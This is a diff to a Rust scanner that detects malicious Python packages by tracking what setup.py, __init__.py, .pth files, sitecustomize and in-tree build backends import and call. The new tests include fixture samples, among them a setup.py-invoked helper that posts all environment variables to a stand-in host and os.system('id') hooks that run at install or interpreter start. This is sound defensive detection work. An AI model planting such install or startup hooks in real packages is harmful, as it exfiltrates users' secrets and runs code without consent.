@@ -125,6 +125,10 @@ const RUNTIME_FACTOR: f64 = 0.6;
 static PTH_DUNDER_IMPORT_RE: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r#"__import__\(\s*['"]([\w]+)"#).expect("static regex compiles"));
 
+/// A call of a name: `f(` or `obj.f(`.
+static CALL_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b([A-Za-z_]\w*)\s*\(").expect("static regex compiles"));
+
 static IMPORT_RE: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?m)^[ \t]*(?:from[ \t]+([\w.]+)[ \t]+import[ \t]+\(?([\w, \t]+)|import[ \t]+([\w., \t]+))")
         .expect("static regex compiles")
@@ -185,7 +189,8 @@ impl Analyzer {
     pub fn analyze(&self, files: &[PackageFile], anomalies: &[Anomaly]) -> ScanReport {
         let mut sink = Sink::default();
         let ecosystem = guess_ecosystem(files);
-        let (setup_imports, init_imports) = local_imports(files);
+        let local = LocalImports::of(files);
+        let (setup_imports, init_imports) = (&local.setup, &local.init);
         let mut findings_extra: Vec<Raw> = Vec::new();
         let mut flagged_binary: HashSet<&str> = HashSet::new();
         let mut code_files = 0usize;
@@ -344,6 +349,7 @@ impl Analyzer {
                         },
                     )
                 };
+                let called = local.called_in(&f.data, imported_by_setup, imported_by_init);
                 let ctx = python::PyCtx {
                     path,
                     role,
@@ -357,6 +363,7 @@ impl Analyzer {
                     depth_left: self.cfg.max_decode_depth,
                     max_parse: self.cfg.max_parse_bytes,
                     in_pip: in_pip(path),
+                    called: &called,
                 };
                 let facts = self.python_file(&f.data, &ctx, &mut sink);
                 per_file_facts.push((path.to_string(), facts));
@@ -387,6 +394,7 @@ impl Analyzer {
                             depth_left: self.cfg.max_decode_depth,
                             max_parse: self.cfg.max_parse_bytes,
                             in_pip: in_pip(path),
+                            called: &[],
                         };
                         let mut facts = Facts::default();
                         python::analyze(t.as_bytes(), &ctx, &mut sink, &mut facts);
@@ -490,6 +498,7 @@ impl Analyzer {
                     depth_left: self.cfg.max_decode_depth,
                     max_parse: self.cfg.max_parse_bytes,
                     in_pip: in_pip(&f.path),
+                    called: &[],
                 };
                 let facts = self.python_file(&f.data, &ctx, &mut sink);
                 per_file_facts.push((f.path.clone(), facts));
@@ -1070,46 +1079,129 @@ fn guess_ecosystem(files: &[PackageFile]) -> Ecosystem {
     }
 }
 
-/// Local names imported by `setup.py` files and by `__init__.py` files.
-fn local_imports(files: &[PackageFile]) -> (HashSet<String>, HashSet<String>) {
-    let mut setup = HashSet::new();
-    let mut init = HashSet::new();
-    for f in files {
-        let b = basename(&f.path);
-        let target = match b {
-            "setup.py" if f.path.matches('/').count() <= 1 => &mut setup,
-            "__init__.py" => &mut init,
-            _ if b.ends_with(".pth") => {
-                // Run at every interpreter start: what a .pth imports is imported then.
-                let text = String::from_utf8_lossy(&f.data);
-                for c in PTH_DUNDER_IMPORT_RE.captures_iter(&text) {
-                    init.insert(c[1].to_ascii_lowercase());
+/// What the files that run first (`setup.py`, `__init__.py`, `.pth` lines, an in-tree
+/// build backend) import from the package, and which names they call.
+#[derive(Default)]
+struct LocalImports {
+    /// Local modules imported while installing.
+    setup: HashSet<String>,
+    /// Local modules imported when the package is imported.
+    init: HashSet<String>,
+    /// Names called by `setup.py` (anywhere in it: its command classes run at install)
+    /// and the hooks an installer calls on an in-tree backend.
+    setup_calls: HashSet<String>,
+    /// Names called at the top level of `__init__.py` and `.pth` lines.
+    init_calls: HashSet<String>,
+}
+
+/// PEP 517 hooks an installer calls on a build backend.
+const BACKEND_HOOKS: &[&str] = &[
+    "build_wheel",
+    "build_sdist",
+    "build_editable",
+    "get_requires_for_build_wheel",
+    "get_requires_for_build_sdist",
+    "get_requires_for_build_editable",
+    "prepare_metadata_for_build_wheel",
+    "prepare_metadata_for_build_editable",
+];
+
+/// Files larger than this are not searched for calls (a call name is a hint, not proof).
+const MAX_CALL_SCAN_BYTES: usize = 1 << 20;
+
+impl LocalImports {
+    fn of(files: &[PackageFile]) -> LocalImports {
+        let mut li = LocalImports::default();
+        // Python imports these itself at every start (the `site` module).
+        li.init
+            .extend(["sitecustomize", "usercustomize"].map(String::from));
+        for f in files {
+            let b = basename(&f.path);
+            let depth = f.path.matches('/').count();
+            let (target, calls, top_only) = match b {
+                "setup.py" if depth <= 1 => (&mut li.setup, &mut li.setup_calls, false),
+                "__init__.py" => (&mut li.init, &mut li.init_calls, true),
+                "pyproject.toml" if depth <= 1 => {
+                    if let Some(m) = meta::in_tree_backend(&String::from_utf8_lossy(&f.data)) {
+                        li.setup.insert(m);
+                        li.setup_calls
+                            .extend(BACKEND_HOOKS.iter().map(|h| h.to_string()));
+                    }
+                    continue;
                 }
-                &mut init
+                _ if b.ends_with(".pth") => {
+                    // Run at every interpreter start: what a .pth imports is imported then.
+                    let text = String::from_utf8_lossy(&f.data);
+                    for c in PTH_DUNDER_IMPORT_RE.captures_iter(&text) {
+                        li.init.insert(c[1].to_ascii_lowercase());
+                    }
+                    (&mut li.init, &mut li.init_calls, true)
+                }
+                _ => continue,
+            };
+            imports_of(&f.data, target);
+            if f.data.len() <= MAX_CALL_SCAN_BYTES {
+                calls_of(&f.data, top_only, calls);
             }
-            _ => continue,
-        };
-        // Only lines that start with `from` or `import` can match (a match never spans
-        // lines); checking that first keeps huge one-line payloads out of the regex.
-        let lines = f.data.split(|&b| b == b'\n').filter(|l| {
-            let t = l.trim_ascii_start();
-            t.starts_with(b"from") || t.starts_with(b"import")
-        });
-        let text: String = lines.map(|l| String::from_utf8_lossy(l) + "\n").collect();
-        for c in IMPORT_RE.captures_iter(&text) {
-            for g in [1, 2, 3] {
-                if let Some(m) = c.get(g) {
-                    for part in m.as_str().split([',', ' ', '\t', '.', '(']) {
-                        let p = part.trim().to_ascii_lowercase();
-                        if !p.is_empty() && p != "as" && p != "import" {
-                            target.insert(p);
-                        }
+        }
+        li
+    }
+
+    /// Functions of a module's `data` that the files running first call: the module is
+    /// imported by them and defines a function of a name they call. Sorted.
+    fn called_in(&self, data: &[u8], by_setup: bool, by_init: bool) -> Vec<String> {
+        let mut out: Vec<String> = [(by_setup, &self.setup_calls), (by_init, &self.init_calls)]
+            .into_iter()
+            .filter(|(on, _)| *on)
+            .flat_map(|(_, calls)| calls.iter())
+            .filter(|n| memchr::memmem::find(data, format!("def {n}(").as_bytes()).is_some())
+            .cloned()
+            .collect();
+        out.sort();
+        out.dedup();
+        out
+    }
+}
+
+/// Adds to `target` the local names that `import` / `from ... import` lines of `data` name.
+fn imports_of(data: &[u8], target: &mut HashSet<String>) {
+    // Only lines that start with `from` or `import` can match (a match never spans
+    // lines); checking that first keeps huge one-line payloads out of the regex.
+    let lines = data.split(|&b| b == b'\n').filter(|l| {
+        let t = l.trim_ascii_start();
+        t.starts_with(b"from") || t.starts_with(b"import")
+    });
+    let text: String = lines.map(|l| String::from_utf8_lossy(l) + "\n").collect();
+    for c in IMPORT_RE.captures_iter(&text) {
+        for g in [1, 2, 3] {
+            if let Some(m) = c.get(g) {
+                for part in m.as_str().split([',', ' ', '\t', '.', '(']) {
+                    let p = part.trim().to_ascii_lowercase();
+                    if !p.is_empty() && p != "as" && p != "import" {
+                        target.insert(p);
                     }
                 }
             }
         }
     }
-    (setup, init)
+}
+
+/// Adds to `calls` the names called in `data` (`f(`, `mod.f(`); with `top_only`, only on
+/// lines that are not indented (the top level).
+fn calls_of(data: &[u8], top_only: bool, calls: &mut HashSet<String>) {
+    for line in data.split(|&b| b == b'\n') {
+        if top_only && line.first().is_some_and(|c| c.is_ascii_whitespace()) {
+            continue;
+        }
+        let line = String::from_utf8_lossy(line);
+        let t = line.trim_start();
+        if t.starts_with("def ") || t.starts_with("class ") || t.starts_with('#') {
+            continue;
+        }
+        for c in CALL_RE.captures_iter(&line) {
+            calls.insert(c[1].to_string());
+        }
+    }
 }
 
 /// Rule for a bundled binary, by extension or magic bytes.
@@ -1150,6 +1242,14 @@ mod tests {
             path: path.into(),
             data: data.as_bytes().to_vec(),
         }
+    }
+
+    /// Stage and weight (the `1.2]` after `[+`) of the first finding of `rule`.
+    fn hit(a: &Analyzer, files: &[PackageFile], rule: &str) -> Option<(Option<Stage>, String)> {
+        let r = a.analyze(files, &[]);
+        let f = r.findings.into_iter().find(|f| f.rule == rule)?;
+        let weight = f.message.rsplit("[+").next().unwrap_or("").to_string();
+        Some((f.stage, weight))
     }
 
     #[test]
@@ -1316,21 +1416,63 @@ mod tests {
     fn modules_a_pth_file_imports_run_at_start() {
         let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
         let module = pf("p-1/hook.py", "import os\nos.system('id')\n");
-        let weight = |files: &[PackageFile]| {
-            let r = a.analyze(files, &[]);
-            let f = r
-                .findings
-                .into_iter()
-                .find(|f| f.rule == "PY-CMD-EXEC")
-                .unwrap();
-            (f.stage, f.message.rsplit("[+").next().unwrap().to_string())
-        };
+        let weight = |files: &[PackageFile]| hit(&a, files, "PY-CMD-EXEC").unwrap();
         let alone = weight(std::slice::from_ref(&module));
         for pth in ["import hook\n", "import os; __import__('hook').go()\n"] {
             let hooked = weight(&[module.clone(), pf("p-1/p.pth", pth)]);
             assert_eq!(hooked.0, Some(Stage::Import));
             assert_ne!(alone.1, hooked.1, "{pth}");
         }
+    }
+
+    #[test]
+    fn functions_that_setup_py_calls_in_a_test_module_run_at_install() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let helper = pf(
+            "p-1/tests/helper.py",
+            "import os, requests\ndef check():\n    requests.post('https://x.test/e', json=dict(os.environ))\n",
+        );
+        let stage_of = |setup: &str| {
+            let r = a.analyze(&[pf("p-1/setup.py", setup), helper.clone()], &[]);
+            let f = r.findings.iter().find(|f| f.rule == "EXFIL-SEND-COLLECTED");
+            (f.and_then(|f| f.stage), r.verdict)
+        };
+        let called =
+            "from tests import helper\nhelper.check()\nfrom setuptools import setup\nsetup()\n";
+        assert_eq!(stage_of(called), (Some(Stage::Install), Verdict::Malicious));
+        // Imported but not called: the function body runs only if something calls it.
+        let (stage, verdict) =
+            stage_of("from tests import helper\nfrom setuptools import setup\nsetup()\n");
+        assert_eq!(stage, Some(Stage::Runtime));
+        assert_ne!(verdict, Verdict::Malicious);
+    }
+
+    #[test]
+    fn an_in_tree_build_backend_runs_at_install() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let backend = pf(
+            "p-1/_build/backend.py",
+            "import os\ndef build_wheel(d, c=None, m=None):\n    os.system('id')\n",
+        );
+        let stage_of = |pyproject: &str| {
+            let files = [pf("p-1/pyproject.toml", pyproject), backend.clone()];
+            hit(&a, &files, "PY-CMD-EXEC").and_then(|h| h.0)
+        };
+        let in_tree =
+            "[build-system]\nrequires=[]\nbuild-backend='backend'\nbackend-path=['_build']\n";
+        assert_eq!(stage_of(in_tree), Some(Stage::Install));
+        let external =
+            "[build-system]\nrequires=['setuptools']\nbuild-backend='setuptools.build_meta'\n";
+        assert_eq!(stage_of(external), Some(Stage::Runtime));
+    }
+
+    #[test]
+    fn a_shipped_sitecustomize_runs_at_every_start() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let src = "import os\nos.system('id')\n";
+        let weight = |path: &str| hit(&a, &[pf(path, src)], "PY-CMD-EXEC").map(|h| h.1);
+        assert_ne!(weight("p-1/sitecustomize.py"), weight("p-1/other.py"));
+        assert_eq!(weight("p-1/sitecustomize.py"), weight("p-1/p/__init__.py"));
     }
 
     #[test]
